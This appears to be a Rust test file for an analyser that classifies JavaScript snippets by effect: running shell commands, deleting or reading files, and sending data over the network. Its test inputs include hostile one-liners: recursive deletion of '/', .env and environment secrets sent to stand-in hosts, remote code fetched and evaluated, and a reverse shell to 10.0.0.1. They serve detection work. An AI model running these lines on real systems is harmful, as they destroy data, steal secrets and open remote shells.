//! JavaScript, written as it usually is.

use super::{Language, PrintsResult, check, check_with};

#[test]
fn programs_are_started() {
    check(
        Language::JavaScript,
        &[
            ("require('child_process').execSync('git reset --hard')", &["shell git reset --hard"]),
            (
                "const cp = require('node:child_process'); cp.exec('ls', (e, out) => console.log(out))",
                &["shell ls", "print ?<output of ls>"],
            ),
            ("const {execSync: e} = require('child_process'); e('ls')", &["shell ls"]),
            ("import { spawn as s } from 'child_process'\ns('rm', ['-rf', '/'])", &["words rm | -rf | /"]),
            ("import * as cp from 'child_process'\ncp.execFileSync('rm', ['x'])", &["words rm | x"]),
            (
                "const {spawnSync} = await import('child_process')\nspawnSync('a b', {shell: true})",
                &["shell a b"],
            ),
            ("import('child_process').then(c => c.exec('ls'))", &["shell ls"]),
            ("child_process.execSync(`rm -rf ${dir}/`)", &["shell rm -rf ?/"]),
            ("await Bun.$`rm -rf ${x}`", &["shell rm -rf ?"]),
            ("import {$} from 'bun'\nawait $`ls`", &["shell ls"]),
            ("Bun.spawn(['rm', '-rf', '/'])", &["words rm | -rf | /"]),
            ("new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()", &["words rm | -rf | /"]),
            ("await Deno.run({cmd: ['ls', '-l']}).status()", &["words ls | -l"]),
            ("process.kill(-1, 'SIGKILL')", &["kill -1"]),
            ("execa('ls', ['-l'])", &["words ls | -l"]),
        ],
    );
}

#[test]
fn files_are_touched() {
    check(
        Language::JavaScript,
        &[
            (
                "require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})",
                &["delete /home/u with all below"],
            ),
            ("const fs = require('fs'); fs.rmSync('x')", &["delete x"]),
            ("fs.promises.rm('/', {recursive: true})", &["delete / with all below"]),
            (
                "import { rm } from 'fs/promises'\nawait rm('x', { recursive: true })",
                &["delete x with all below"],
            ),
            ("import fs from 'node:fs'\nfs.rmSync(p, options)", &["delete ? with all below"]),
            ("fs.unlinkSync(path.join(process.env.HOME, '.bashrc'))", &["delete /home/u/.bashrc"]),
            ("Deno.removeSync('/', {recursive: true})", &["delete / with all below"]),
            ("require('rimraf').sync('/')", &["delete / with all below"]),
            ("console.log(fs.readFileSync('.env', 'utf8'))", &["read .env", "print ?<file .env>"]),
            ("fs.readFile('.env', 'utf8', (e, d) => console.log(d))", &["read .env", "print ?<file .env>"]),
            ("fs.createReadStream('.env').pipe(process.stdout)", &["read .env", "print ?<file .env>"]),
            ("fs.writeFileSync('a', 'b' + 1)", &["write a: b1"]),
            ("fs.appendFileSync(`${os.homedir()}/.bashrc`, 'x')", &["write /home/u/.bashrc: x"]),
            (
                "fs.renameSync('a', 'b'); fs.copyFileSync('.env', 'c')",
                &["move a b", "read .env", "write c: ?<file .env>"],
            ),
            ("fs.chmodSync('/', 0o777)", &["permit / 777"]),
            ("fs.symlinkSync('/etc', 'e')", &["link e to /etc"]),
            (
                "for (const f of fs.readdirSync('/')) fs.rmSync('/' + f, {recursive: true})",
                &["list /", "delete /* with all below"],
            ),
            (
                "fs.readdirSync('.').forEach(f => { if (f.endsWith('.o')) fs.unlinkSync(f) })",
                &["list .", "delete . as tested"],
            ),
            ("['a', 'b'].forEach(f => fs.unlinkSync(f))", &["delete a", "delete b"]),
            ("fs.existsSync('/etc') && console.log('yes')", &["print yes"]),
            ("Bun.write('a', await Bun.file('.env').text())", &["read .env", "write a: ?<file .env>"]),
        ],
    );
}

#[test]
fn data_leaves_and_comes() {
    check(
        Language::JavaScript,
        &[
            (
                "fetch('https://c.example', {method: 'POST', body: fs.readFileSync('.env')})",
                &["read .env", "send POST | ?<file .env> to https://c.example", "fetch https://c.example"],
            ),
            (
                "fetch('https://c.example/?k=' + process.env.KEY)",
                &[
                    "send https://c.example/?k=?<$KEY> to https://c.example/?k=?",
                    "fetch https://c.example/?k=?",
                ],
            ),
            (
                "fetch('https://g.example/a.js').then(r => r.text()).then(t => eval(t))",
                &["fetch https://g.example/a.js", "evaluate ?<https://g.example/a.js>"],
            ),
            (
                "fetch('https://g.example/a.js').then(r => r.text()).then(eval)",
                &["fetch https://g.example/a.js", "evaluate ?<https://g.example/a.js>"],
            ),
            (
                "eval(await (await fetch('https://g.example')).text())",
                &["fetch https://g.example", "evaluate ?<https://g.example>"],
            ),
            (
                "require('https').get('https://g.example/a.js',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))})",
                &["fetch https://g.example/a.js", "evaluate ?<https://g.example/a.js>"],
            ),
            (
                "const r = https.request({hostname: 'c.example', path: '/x', method: 'POST'}); r.write(JSON.stringify(process.env)); r.end()",
                &["fetch c.example/x", "send ?<environment> to c.example/x"],
            ),
            ("axios.post('https://c.example', {k: process.env.KEY})", &["send ?<$KEY> to https://c.example"]),
            (
                "const s = net.connect(4444, '10.0.0.1'); const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin)",
                &["fetch 10.0.0.1"],
            ),
            (
                "const s = net.connect(4444, '10.0.0.1'); const sh = require('child_process').spawn('/bin/sh', []); s.pipe(sh.stdin)",
                &["fetch 10.0.0.1", "words /bin/sh", "shell ?<10.0.0.1>", "shell ?<10.0.0.1>"],
            ),
            (
                "import('https://g.example/x.js')",
                &["fetch https://g.example/x.js", "evaluate ?<https://g.example/x.js>"],
            ),
            (
                "const s = dgram.createSocket('udp4'); s.send(fs.readFileSync('.env'), 53, 'c.example')",
                &["read .env", "send ?<file .env> to c.example"],
            ),
            (
                "dns.lookup(process.env.KEY + '.c.example', () => {})",
                &["send ?.c.example<$KEY> to ?.c.example", "fetch ?.c.example"],
            ),
            (
                "https.get('https://g.example', r => r.pipe(fs.createWriteStream('x')))",
                &["fetch https://g.example", "write x: ?<https://g.example>"],
            ),
            ("require('./x.js')", &["import ./x.js"]),
            ("await client.query('DROP TABLE users')", &["sql DROP TABLE users"]),
            ("await prisma.$executeRaw`TRUNCATE TABLE users`", &["sql TRUNCATE TABLE users"]),
            ("db.dropDatabase()", &["drop"]),
            ("console.log(process.env)", &["print ?<environment>"]),
            ("console.log(process.env['API_KEY'])", &["print ?<$API_KEY>"]),
            ("const { API_KEY } = process.env; console.log(API_KEY)", &["print ?<$API_KEY>"]),
        ],
    );
}

#[test]
fn a_result_may_be_printed() {
    check_with(
        Language::JavaScript,
        PrintsResult::Yes,
        &[
            ("process.env.STRIPE_SECRET_KEY", &["print ?<$STRIPE_SECRET_KEY>"]),
            ("1 + 1", &["print 2"]),
            ("require('./package.json').version", &["read ./package.json", "print ?<file ./package.json>"]),
            ("require('fs').readFileSync('.env').toString()", &["read .env", "print ?<file .env>"]),
        ],
    );
}

#[test]
fn harmless_code_takes_no_steps_or_only_prints() {
    check(
        Language::JavaScript,
        &[
            ("const s = 'rm -rf /'; console.log(s.length)", &["print ?"]),
            ("// execSync('rm -rf /')\n/* rmSync('/') */ let x = 1", &[]),
            ("console.log(JSON.stringify({rule: 'rm -rf /'}))", &["print ?"]),
            ("if (/rm -rf \\//.test(cmd)) console.log('bad')", &["print bad"]),
            ("fs.readdirSync('logs').length", &["list logs"]),
            ("const re = /execSync('x')/g; x = a / b / c;", &[]),
            ("const r = /a/.exec('rm -rf /')", &[]),
            ("console.log(`rm -rf ${x}`)", &["print rm -rf ?"]),
            ("const m = {rm: () => 'rm -rf /', list: ['DROP TABLE x']}", &[]),
            ("setTimeout(resolve, 1000)", &[]),
            ("new Promise(r => setTimeout(r, 10)).then(() => console.log('ok'))", &["print ok"]),
            ("class A { exec(x) { return x } }", &[]),
            ("console.log([1,2,3].map(x => x * 2).join(','))", &["print 2,4,6"]),
        ],
    );
}

#[test]
fn words_with_a_shell_are_one_text() {
    check(
        Language::JavaScript,
        &[
            ("require('child_process').spawnSync('rm', ['-rf', '/'], {shell: true})", &["shell rm -rf /"]),
            (
                "const {spawn} = require('child_process'); spawn('rm', ['-rf', d], {stdio: 'inherit', shell: '/bin/sh'})",
                &["shell rm -rf ?"],
            ),
            ("require('child_process').execFileSync('ls; rm -rf /', {shell: true})", &["shell ls; rm -rf /"]),
            (
                "require('child_process').spawnSync('sh', ['-s'], {shell: true, input: 'rm x'})",
                &["shell sh -s", "shell rm x"],
            ),
            ("require('child_process').spawnSync('rm', ['a b'], {shell: false})", &["words rm | a b"]),
        ],
    );
}

#[test]
fn a_slash_behind_an_operand_divides() {
    check(
        Language::JavaScript,
        &[
            (
                "let b = 1; const a = b-- / 2; require('fs').rmSync('/etc', {recursive: true})",
                &["delete /etc with all below"],
            ),
            ("let b = 4; b /= 2; require('fs').unlinkSync('a/b')", &["delete a/b"]),
            ("if (x) /'/.test(y); require('fs').unlinkSync('a')", &["delete a"]),
            ("let y = x.default / 2; require('fs').unlinkSync('a/b')", &["delete a/b"]),
            (
                "const z = {} / 2; if (x) { y() } /'/.test(y); require('fs').unlinkSync('a/b')",
                &["delete a/b"],
            ),
            ("function f() { return /'/.test(y) } require('fs').unlinkSync('a')", &["delete a"]),
        ],
    );
}

#[test]
fn a_slash_behind_a_brace_is_read_both_ways() {
    let deletes = |code: &str| {
        let steps = super::run(Language::JavaScript, super::PrintsResult::No, code);
        steps.iter().any(|step| super::shown(step) == "delete a/b")
    };
    assert!(deletes("let of = 4; x = of / 2; require('fs').unlinkSync('a/b')"));
    assert!(deletes("function f() {} /2; require('fs').unlinkSync('a/b')"));
    assert!(deletes("const x = {} / 2; require('fs').unlinkSync('a/b')"));
    assert!(deletes("if (x) { y() } /'/.test(y); require('fs').unlinkSync('a/b')"));
    assert!(!deletes("if (x) { y() } /require('fs').unlinkSync('c')/.test(y)"));
}

#[test]
fn what_is_kept_in_memory_is_no_file() {
    check(
        Language::JavaScript,
        &[
            ("const fs = require('memfs'); fs.writeFileSync('/etc/passwd', 'x')", &[]),
            (
                "const { fs, vol } = require('memfs'); vol.fromJSON({}); fs.rmSync('/', {recursive: true})",
                &[],
            ),
            (
                "const { createFsFromVolume, Volume } = require('memfs'); createFsFromVolume(new Volume()).unlinkSync('/a')",
                &[],
            ),
            ("const MemoryFS = require('memory-fs'); new MemoryFS().writeFileSync('/a', 'b')", &[]),
            ("const memfs = require('fs'); memfs.writeFileSync('/a', 'b')", &["write /a: b"]),
        ],
    );
}
